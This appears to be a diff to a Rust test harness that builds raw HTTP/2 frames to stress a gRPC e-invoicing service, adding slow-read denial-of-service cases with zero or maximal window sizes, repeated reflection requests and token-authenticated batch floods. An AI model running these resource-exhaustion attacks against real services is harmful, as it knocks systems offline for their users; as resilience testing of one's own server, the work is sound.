@@ -34,13 +34,30 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     [&length, [kind, flags].as_slice(), &stream.to_be_bytes(), payload].concat()
 }
 
-/// Header fields as literals without an index (RFC 7541 §6.2.2), of at most 126 bytes each.
+/// Header fields as literals without an index (RFC 7541 §6.2.2).
 fn fields(fields: &[(&str, &str)]) -> Vec<u8> {
-    let length = |text: &str| u8::try_from(text.len()).unwrap_or(0) & 0x7f;
     let field = |(name, value): &(&str, &str)| {
-        [&[0, length(name)], name.as_bytes(), &[length(value)], value.as_bytes()].concat()
+        [&[0], &*length(name.len()), name.as_bytes(), &*length(value.len()), value.as_bytes()].concat()
     };
     fields.iter().flat_map(field).collect()
+}
+
+/// A length with a prefix of seven bits (RFC 7541 §5.1).
+fn length(bytes: usize) -> Vec<u8> {
+    const PREFIX_MAX: usize = 127;
+    let Some(mut rest) = bytes.checked_sub(PREFIX_MAX) else { return vec![u8::try_from(bytes).unwrap_or(0)] };
+    let mut length = vec![127];
+    while rest >= 128 {
+        length.push(u8::try_from(rest % 128).unwrap_or(0) | 128);
+        rest /= 128;
+    }
+    length.push(u8::try_from(rest).unwrap_or(0));
+    length
+}
+
+/// A message as a call carries it.
+fn framed(message: &[u8]) -> Vec<u8> {
+    [&[0], u32::try_from(message.len()).unwrap_or(0).to_be_bytes().as_slice(), message].concat()
 }
 
 /// The head of a call.
@@ -67,8 +84,10 @@ fn calls(settings: &[u8], count: u32, call: impl Fn(u32) -> Vec<u8>) -> Vec<u8> 
 }
 
 impl Attack {
-    /// Those on the gRPC door.
-    pub(super) fn all_grpc() -> Vec<Self> {
+    /// Those on the gRPC door: of strangers, and of whoever has this token of a member.
+    pub(super) fn all_grpc(token: &str) -> Vec<Self> {
+        // SETTINGS_INITIAL_WINDOW_SIZE is 0, and as large as it may be.
+        let (no_window, wide) = ([0, 4, 0, 0, 0, 0], [0, 4, 0x7f, 0xff, 0xff, 0xff]);
         vec![
             Self::half_open(),
             Self::open_calls(),
@@ -77,7 +96,10 @@ impl Attack {
             Self::given_up(),
             Self::half_sent_batches(),
             Self::endless_batches(),
-            Self::unread_answers(),
+            Self::unread_answers(&no_window),
+            Self { ears: Ears::Deaf, name: "grpc deaf", ..Self::unread_answers(&wide) },
+            Self::unread_batches(token, &no_window),
+            Self { ears: Ears::Deaf, name: "grpc deaf member", ..Self::unread_batches(token, &wide) },
         ]
     }
 
@@ -141,17 +163,26 @@ impl Attack {
         Self { again, times_max: u32::MAX, round: RUSH, ..Self::h2("grpc endless", first) }
     }
 
-    /// Asks for the largest answer that needs no login, in each of many calls, and takes nothing of it.
-    fn unread_answers() -> Self {
-        // SETTINGS_INITIAL_WINDOW_SIZE is 0.
-        let no_window = [0, 4, 0, 0, 0, 0];
+    /// Asks for the largest answer that needs no login, again and again in each of many calls, and takes nothing of it.
+    fn unread_answers(settings: &[u8]) -> Self {
         let symbol = b"einvoice.v1.LedgerService";
         // `file_containing_symbol` of a request of reflection.
-        let message = [[0x22, u8::try_from(symbol.len()).unwrap_or(0)].as_slice(), symbol].concat();
-        let asked = [&[0], u32::try_from(message.len()).unwrap_or(0).to_be_bytes().as_slice(), &message].concat();
+        let question = framed(&[[0x22, u8::try_from(symbol.len()).unwrap_or(0)].as_slice(), symbol].concat());
+        let asked = question.repeat(100);
         let call = |stream| {
             [frame(HEADERS, END_HEADERS, stream, &head(REFLECTION)), frame(DATA, END_STREAM, stream, &asked)].concat()
         };
-        Self::h2("grpc unread", calls(&no_window, CALLS, call))
+        Self::h2("grpc unread", calls(settings, CALLS, call))
+    }
+
+    /// The same as a member: asks for the answers of large batches, and takes nothing of them.
+    fn unread_batches(token: &str, settings: &[u8]) -> Self {
+        let bearer = format!("Bearer {token}");
+        let head = [head(BATCH_VERIFY), fields(&[("authorization", &bearer)])].concat();
+        // A request of `qr`, a text that is none.
+        let asked = framed(&[0x0a, 3, 0x0a, 1, b'x'].repeat(1_000));
+        let call =
+            |stream| [frame(HEADERS, END_HEADERS, stream, &head), frame(DATA, END_STREAM, stream, &asked)].concat();
+        Self::h2("grpc unread member", calls(settings, CALLS, call))
     }
 }
